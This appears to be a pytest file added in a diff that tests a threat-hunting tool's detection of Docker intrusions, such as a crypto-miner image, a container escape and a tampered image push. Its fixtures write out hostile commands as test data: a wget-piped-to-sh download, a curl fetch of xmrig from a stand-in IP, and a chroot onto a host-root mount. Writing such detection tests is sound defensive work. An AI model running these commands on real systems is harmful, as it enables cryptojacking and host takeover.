@@ -1,0 +1,85 @@
+"""The detections of containers over a day of a host with Docker, and over the same day with an intruder in it."""
+
+from collections.abc import Iterator
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+
+from clew.runner.hunt import Hunt, hunt
+from clew.settings.layers import read_settings
+from engines import START, Day, Record, call, commit, digest, lines, program, pull, push, run
+
+#: What a site with such a host says of it.
+SITE = f"""
+[elements.AN0693]
+known_images = {{add = ["{Day.registry}/*", "docker:*", "portainer/*", "traefik", "containrrr/*", "prom/*", "gcr.io/cadvisor/*"]}}
+"""
+PIPED = "/bin/sh -c wget -qO- http://203.0.113.7/x | sh"
+FETCH = "/usr/bin/curl -sO https://203.0.113.7/xmrig"
+
+
+def intrusion() -> Iterator[Record]:
+    """Somebody pulls an image with a miner, has it reach the host, and leaves a changed image for others."""
+    time, image = START + timedelta(hours=15), f"{Day.registry}/base:1"
+    yield pull(time, "kimages/miner:1")
+    yield from run(
+        time + timedelta(seconds=5), "mine", "docker.io/kimages/miner:1", "/entry", Binds=["/:/host"]
+    )
+    yield program(time + timedelta(seconds=9), "mine", PIPED, "/entry")
+    yield program(time + timedelta(seconds=20), "mine", "/usr/sbin/chroot /host sh -c id", "/bin/sh")
+    yield commit(time + timedelta(minutes=20), "app-14", image)
+    yield push(time + timedelta(minutes=21), image)
+    yield from run(time + timedelta(minutes=30), "base", image, "/app serve")
+
+
+def hunted(folder: Path, records: Iterator[Record], site: str = "") -> Hunt:
+    (folder / "clew.toml").write_text(site)
+    (folder / "day.log").write_text(lines(records))
+    return hunt(
+        [folder / "day.log"], settings=read_settings(environ={}, folder=folder, system=folder / "none")
+    )
+
+
+def test_on_an_ordinary_day_only_images_that_nobody_named_show(tmp_path: Path) -> None:
+    """Agents with the engine's socket, privileged build engines, pushes, tools of checks and of one download."""
+    result = hunted(tmp_path, Day().records())
+    assert result.tally.complete and result.counters.unplaced == 0
+    assert {one.analytic for one in result.findings} == {"AN0693"}
+
+
+def test_an_intruder_on_that_day(tmp_path: Path) -> None:
+    """Each of them finds what is its own, once; all that the site has named is silent."""
+
+    def both() -> Iterator[Record]:
+        yield from Day().records()
+        yield from intrusion()
+
+    result = hunted(tmp_path, both(), SITE)
+    shown = {one.analytic: (one.level, next(iter(one.bound.values()))) for one in result.findings}
+    assert len(result.findings) == len(shown) and shown == {
+        "AN0612": ("critical", "docker.io/kimages/miner:1"),
+        "AN0613": ("low", digest("mine")[:12]),
+        "AN0691": ("high", "kimages/miner:1"),
+        "AN0693": ("critical", digest("mine")[:12]),
+        "AN0946": ("high", f"{Day.registry}/base:1"),
+    }
+
+
+@pytest.mark.parametrize(
+    ("site", "levels"),
+    [
+        ("", {"AN0691": "medium"}),
+        ('OutboundCIDRBlockList = ["203.0.113.0/24"]', {"AN0691": "high"}),
+        ('ImageRegistryAllowList = {add = ["kimages/*"]}', {}),
+    ],
+)
+def test_what_a_site_says_of_its_images(tmp_path: Path, site: str, levels: dict[str, str]) -> None:
+    def fetching() -> Iterator[Record]:
+        yield pull(START, "kimages/app:1")
+        yield from run(START + timedelta(seconds=2), "app", "kimages/app:1", "/entry")
+        yield program(START + timedelta(seconds=9), "app", FETCH, "/entry")
+        yield call(START + timedelta(seconds=9), "app", FETCH, "203.0.113.7")
+
+    result = hunted(tmp_path, fetching(), f"[elements.AN0691]\n{site}\n")
+    assert {one.analytic: one.level for one in result.findings} == levels
